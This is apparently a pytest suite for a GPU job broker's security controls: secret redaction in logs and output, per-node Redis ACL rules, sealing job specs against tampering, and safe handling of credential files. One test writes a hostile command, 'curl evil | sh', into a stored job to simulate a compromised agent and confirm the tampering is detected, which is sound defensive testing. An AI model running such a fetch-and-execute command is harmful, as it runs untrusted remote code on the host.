"""Secrets kept out of logs, URLs and job environments; ACL rules as data; sealed specs on the
Redis store (a real Redis: the session's)."""

from __future__ import annotations

import json
import logging
import os
import subprocess
import sys
from pathlib import Path

import pytest
import redis

from broker.config.core import Config
from broker.model import JobSpec
from broker.security import acl, seal
from broker.security.redact import (
    SecretFilter,
    install_log_redaction,
    job_base_env,
    masked,
    redact_url,
    scrub,
    secret_values,
)
from broker.store import RedisStore

PW = "s3cret-Pa55word"


@pytest.mark.parametrize("url, shown", [
    (f"redis://:{PW}@10.0.0.5:6379/0", "redis://:***@10.0.0.5:6379/0"),
    (f"rediss://agent-n1:{PW}@h:6380/2?ssl_ca_certs=/ca.pem",
     "rediss://agent-n1:***@h:6380/2?ssl_ca_certs=/ca.pem"),
    ("redis://127.0.0.1:6379/0", "redis://127.0.0.1:6379/0"),
    (f"redis://u:{PW}@[::1]:99999/0", "redis://u:***@[::1]:99999/0"),  # a bad port
])
def test_redact_url_masks_the_password_only(url: str, shown: str) -> None:
    assert redact_url(url) == shown


def test_scrub_masks_url_passwords_and_known_secrets_in_any_text() -> None:
    text = f"cannot reach redis://x:{PW}@h/0 (token tok-123456 in header)"
    assert scrub(text, {"tok-123456"}) == "cannot reach redis://x:***@h/0 (token *** in header)"
    assert scrub("abc", {"ab"}) == "abc"  # too short to scrub safely


def test_secret_values_and_the_job_environment() -> None:
    env = {"SPILLWAY_REDIS_URL": f"redis://:{PW}@h/0", "AWS_SECRET_ACCESS_KEY": "aws-xyz-1",
           "HF_TOKEN": "hf-abc-2", "SPILLWAY_METRICS_BASIC_AUTH": "u:pw-3333",
           "TOKENIZERS_PARALLELISM": "false", "PATH": "/usr/bin", "OTHER": f"x://u:{PW}@h",
           "CUDA_HOME": "/usr/local/cuda"}
    assert secret_values(env) == {PW, "aws-xyz-1", "hf-abc-2", "u:pw-3333"}
    assert job_base_env(env) == {"TOKENIZERS_PARALLELISM": "false", "PATH": "/usr/bin",
                                 "CUDA_HOME": "/usr/local/cuda"}


def test_the_log_filter_scrubs_messages_arguments_and_tracebacks() -> None:
    logger = logging.getLogger("test.security")
    handler = logging.StreamHandler()
    records: list[str] = []
    handler.emit = lambda record: records.append(  # type: ignore[method-assign]
        handler.format(record))
    logger.addHandler(handler)
    try:
        install_log_redaction(extra=["planted-token-42"], logger=logger)
        install_log_redaction(extra=["planted-token-42"], logger=logger)  # (idempotent)
        assert sum(isinstance(f, SecretFilter) for f in handler.filters) == 1
        logger.warning("connecting to %s with %s", f"redis://:{PW}@h/0", "planted-token-42")
        try:
            raise RuntimeError(f"refused redis://u:{PW}@h/0")
        except RuntimeError:
            logger.exception("failed")
    finally:
        logger.removeHandler(handler)
    text = "\n".join(records)
    assert PW not in text and "planted-token-42" not in text
    assert "redis://:***@h/0" in text and "RuntimeError" in text


def test_acl_rules_for_an_agent_name_only_its_node_and_no_password() -> None:
    user = acl.user_for("agent", "gpu-7")
    assert user.name == "spillway-agent-gpu-7"
    assert "~sw:node:gpu-7" in user.rules and "~node.gpu-7" in user.rules
    assert not any(r.startswith("~sw:node:") and r != "~sw:node:gpu-7" for r in user.rules)
    # its node's keys only: no job record, no other node's, no spec of any job, and no
    # command to another node's queue (the scheduler applies its reports)
    assert not any(k in r for r in user.rules for k in ("sw:job", "sw:spec", "sw:archive",
                                                        "sw:usage", "node.*", "sw:alloc:*"))
    assert {"~sw:run:gpu-7", "%R~sw:alloc:gpu-7", "~sw:reports:gpu-7", "~sw:logs:*@gpu-7",
            "%W~sw:nodes:hello"} <= set(user.rules)
    line = user.command("a-password")
    assert "a-password" not in line and "#" in line and line.startswith("ACL SETUSER")
    for bad in ("n*", "a b", "", "[x]"):
        with pytest.raises(acl.AclError, match="node id"):
            acl.user_for("agent", bad or "?")
    with pytest.raises(acl.AclError, match="role 'root'"):
        acl.user_for("root")
    with pytest.raises(acl.AclError, match="--node is required"):
        acl.user_for("agent")
    assert acl.url_for("rediss://h:6380/1?ssl_cert_reqs=required", "u", "p/w@") == \
        "rediss://u:p%2Fw%40@h:6380/1?ssl_cert_reqs=required"


def test_a_spec_is_sealed_at_submit_and_a_changed_or_unsealed_one_refused(
        redis_client: redis.Redis, redis_prefix: str) -> None:
    store = RedisStore(redis_client, Config(), prefix=redis_prefix)
    spec = JobSpec(command="python train.py --lr 0.1", gpus=2, env={"A": "1"},
                   time_limit=3600, team="vision", gpu_types=["A100", "H100"])
    job = store.submit(spec, 100.0)
    assert store.spec_problems([store.get(job.id)]) == {}
    raw = redis_client.hget(f"{redis_prefix}job:{job.id}", "doc")
    doc = json.loads(raw)  # a compromised agent rewrites the record's command
    doc["spec"]["command"] = "curl evil | sh"
    redis_client.hset(f"{redis_prefix}job:{job.id}", "doc", json.dumps(doc))
    tampered = RedisStore(redis_client, Config(), prefix=redis_prefix).get(job.id)
    assert "SpecTampered" in store.spec_problems([tampered])[job.id]
    redis_client.delete(seal.seal_key(redis_prefix, job.id))  # (an agent's user cannot)
    assert "SpecNotSealed" in store.spec_problems([tampered])[job.id]
    # (what the agent reads, its node's view with each job's seal, is judged the same way:
    # tests/contract/test_node_reports.py)


def test_the_boot_script_keeps_a_password_off_the_command_line(tmp_path: Path) -> None:
    from broker.model.cloud import Market, Offer
    from providers.userdata import render

    offer = Offer("libcloud", "r", "z", "t", "A100-40GB", 1, 40.0, Market.SPOT, 1.0)
    url = f"rediss://spillway-cloud-r1:{PW}@broker:6380/0"
    recorder = (f"{sys.executable} -c 'import json, os, sys; json.dump([os.environ.get("
                f"\"SPILLWAY_REDIS_URL\"), sys.argv[1:]], open(\"{tmp_path / 'seen'}\", \"w\"))'")
    script = render(offer, "libcloud", url, "r1", ca_pem="-----BEGIN CERTIFICATE-----\nAB\n"
                    "-----END CERTIFICATE-----\n", ca_path=str(tmp_path / "etc" / "ca.pem"),
                    worker_command=recorder)
    (tmp_path / "boot.sh").write_text(script)
    done = subprocess.run(["/bin/sh", str(tmp_path / "boot.sh")], capture_output=True,
                          text=True, timeout=30, env={**os.environ, "SPILLWAY_INSTANCE_ID": "i-1"})
    assert done.returncode == 0, done.stderr
    exported, argv = json.loads((tmp_path / "seen").read_text())
    assert PW not in " ".join(argv) and "--redis-url" not in argv
    assert exported == (f"{url}?ssl_ca_certs={tmp_path / 'etc' / 'ca.pem'}"
                        "&ssl_cert_reqs=required")
    assert (tmp_path / "etc" / "ca.pem").read_text().startswith("-----BEGIN CERTIFICATE")


def test_json_output_masks_a_specs_secret_env_and_url_passwords() -> None:
    record = {"id": "j-1", "spec": {"env": {"HF_TOKEN": "hf-1234", "LR": "0.1",
                                            "DB": f"postgres://u:{PW}@db/x"}},
              "history": [["PENDING", 1.0, f"from redis://:{PW}@h/0", 1]]}
    out = masked([record])[0]
    assert out["spec"]["env"] == {"HF_TOKEN": "***", "LR": "0.1", "DB": "postgres://u:***@db/x"}
    assert PW not in str(out) and out["id"] == "j-1"


def test_the_simulators_output_and_json_carry_no_secret(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from broker.cli import app

    planted = {"AWS_SECRET_ACCESS_KEY": "PLANTED-sim-aws-77", "SPILLWAY_TOKEN": "PLANTED-sim-t"}
    (tmp_path / "config.yaml").write_text(
        f"redis_url: redis://:{PW}@10.0.0.9:6379/0\nmetrics_token: PLANTED-sim-metrics\n"
        "metrics_basic_auth: ops:PLANTED-sim-basic\n")
    (tmp_path / "c.yaml").write_text(
        "name: tiny\nnodes:\n  - {prefix: a, count: 1, gpus: 4xA100-80GB}\n")
    (tmp_path / "t.csv").write_text(
        "submit_time,duration_s,num_gpus,team,priority,time_limit_s\n"
        + "".join(f"{i * 60},600,{1 + i % 2},red,normal,7200\n" for i in range(6)))
    result = CliRunner().invoke(
        app, ["--config", str(tmp_path / "config.yaml"), "simulate", "--trace",
              str(tmp_path / "t.csv"), "--cluster", str(tmp_path / "c.yaml"), "--json",
              str(tmp_path / "m.json"), "--print-json"], env=planted)
    assert result.exit_code == 0, result.output
    text = result.output + (tmp_path / "m.json").read_text()
    for secret in (PW, "PLANTED-sim-metrics", "PLANTED-sim-basic", *planted.values()):
        assert secret not in text


def test_jobs_queued_before_seals_are_sealed_once_and_old_seals_still_match(
        redis_client: redis.Redis, redis_prefix: str) -> None:
    store = RedisStore(redis_client, Config(), prefix=redis_prefix)
    old, other = (store.submit(JobSpec(command=["true"], gpus=1), 100.0) for _ in range(2))
    for job in (old, other):  # queued by a version that sealed nothing
        redis_client.delete(seal.seal_key(redis_prefix, job.id))
    assert store.seal_existing(200.0) == 2  # the upgrade: the first scheduler seals them
    assert store.spec_problems([store.get(old.id), store.get(other.id)]) == {}
    redis_client.delete(seal.seal_key(redis_prefix, other.id))  # an unsealed job later on
    assert store.seal_existing(300.0) == 0  # is never sealed again: it stays refused
    assert "SpecNotSealed" in store.spec_problems([store.get(other.id)])[other.id]
    # a seal written before a field was added to JobSpec (the field left out) still matches
    doc = json.loads(redis_client.get(seal.seal_key(redis_prefix, old.id)))
    doc.pop("labels")
    redis_client.set(seal.seal_key(redis_prefix, old.id), json.dumps(doc))
    assert store.spec_problems([store.get(old.id)]) == {}


def test_a_url_file_others_may_read_is_refused(tmp_path: Path) -> None:
    from broker.errors import ConfigError
    from broker.store.reach import url_from_file

    f = tmp_path / "agent.url"
    f.write_text("redis://agent-n1:s3cret-pw@h:6379/0\n")
    os.chmod(f, 0o644)
    with pytest.raises(ConfigError, match=r"mode 644 lets other users read .*chmod 600"):
        url_from_file(str(f), "--redis-url-file")
    os.chmod(f, 0o600)
    assert url_from_file(str(f)) == "redis://agent-n1:s3cret-pw@h:6379/0"
    f.write_text("")
    with pytest.raises(ConfigError, match="the file is empty"):
        url_from_file(str(f))
    with pytest.raises(ConfigError, match="cannot read it"):
        url_from_file(str(tmp_path / "missing"))
    assert url_from_file("") == ""
